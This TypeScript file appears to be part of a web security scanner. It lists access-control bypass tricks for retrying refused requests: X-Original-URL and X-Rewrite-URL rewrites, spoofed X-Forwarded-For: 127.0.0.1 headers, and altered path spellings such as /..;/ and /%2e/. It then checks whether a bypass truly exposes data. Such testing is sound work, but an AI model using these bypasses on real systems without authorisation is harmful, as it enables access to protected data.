import type { TargetProfile } from "../engine/check.ts";
import type { Probe } from "../engine/probe.ts";
import { isSuccess } from "../oracles/classify.ts";
import { isNoBetterThan, notFoundControl } from "../oracles/not-found.ts";
import { areSimilar } from "../oracles/similarity.ts";
import type { ProbeRequest, ProbeResponse } from "../transport/exchange.ts";
import type { Variant } from "./bypass.ts";
import { withHeader } from "./credentials.ts";

/** A way to reach a path that a guard in front of it does not recognise. */
export interface Bypass {
  /** How it is called in a report. */
  readonly label: string;
  readonly disguise: (request: ProbeRequest, profile: Pick<TargetProfile, "calibration">) => ProbeRequest;
}

const REWRITES = ["x-original-url", "x-rewrite-url"];

/** The path in headers of a request to the start page, or to nowhere, which no guard refuses. */
const inHeaders = (carrier: "start page" | "missing path"): Bypass => ({
  label: `\`X-Original-URL\` or \`X-Rewrite-URL\` on a request to ${carrier === "start page" ? "the start page" : "a path that does not exist"}`,
  disguise(request, { calibration }) {
    const { origin, pathname, search } = new URL(request.url);
    const path = carrier === "start page" ? "/" : `/${calibration.nonce}`;
    return REWRITES.reduce((disguised, name) => withHeader(disguised, name, pathname + search), {
      ...request,
      url: origin + path,
    });
  },
});

/** All headers by which proxies pass the client address, with the loopback address. */
const FROM_INSIDE = ["x-forwarded-for", "x-real-ip", "x-client-ip", "true-client-ip", "x-originating-ip"];

const fromInside: Bypass = {
  label: "`X-Forwarded-For: 127.0.0.1` and similar headers",
  disguise: (request) =>
    FROM_INSIDE.reduce((disguised, name) => withHeader(disguised, name, "127.0.0.1"), request),
};

/** The path spelled otherwise on the wire, where a normalising client would undo it. */
const spelled = (label: string, spell: (path: string) => string): Bypass => ({
  label,
  disguise(request) {
    const { pathname, search } = new URL(request.url);
    return { ...request, rawPath: spell(pathname) + search };
  },
});

/** @internal */
export const BYPASSES: readonly Bypass[] = [
  inHeaders("start page"),
  inHeaders("missing path"),
  fromInside,
  spelled("a doubled slash", (path) => `/${path}`),
  spelled("`/%2e/` before the path", (path) => `/%2e${path}`),
  spelled("`;` after the path", (path) => `${path};`),
  spelled("`/..;/` within the path", (path) => path.replace(/\/([^/]+)$/, "/none/..;/$1")),
  spelled("a slash after the path", (path) => `${path}/`),
  spelled("another case of the path", (path) =>
    path.replace(/[a-z]+(?=[^a-z]*$)/, (letters) => letters.toUpperCase()),
  ),
  spelled("an encoded letter", (path) =>
    path.replace(/[a-z](?=[^a-z]*$)/, (letter) => `%${letter.charCodeAt(0).toString(16).toUpperCase()}`),
  ),
];

/** The refused request in each disguise. */
export const disguised = ({ request }: ProbeResponse, probe: Probe): Variant[] =>
  BYPASSES.map(({ label, disguise }) => ({
    label,
    request: disguise(request, probe.profile),
    isAccepted: yieldsData,
    isProven: (response) => isOnlyThere(response, { request, disguise, probe }),
  }));

const yieldsData = (response: ProbeResponse): boolean =>
  isSuccess(response) && typeof response.json === "object" && response.json !== null;

/** Neither the start page, nor what the carrier of the bypass returns by itself, nor what any path gets with it. */
async function isOnlyThere(
  response: ProbeResponse,
  { request, disguise, probe }: { request: ProbeRequest; disguise: Bypass["disguise"]; probe: Probe },
): Promise<boolean> {
  const { profile } = probe;
  const elsewhere = await probe.control(disguise(notFoundControl(request, profile), profile));
  return (
    !isNoBetterThan(elsewhere, response) &&
    !areSimilar(response, profile.entry) &&
    !profile.calibration.looksMissing(response)
  );
}
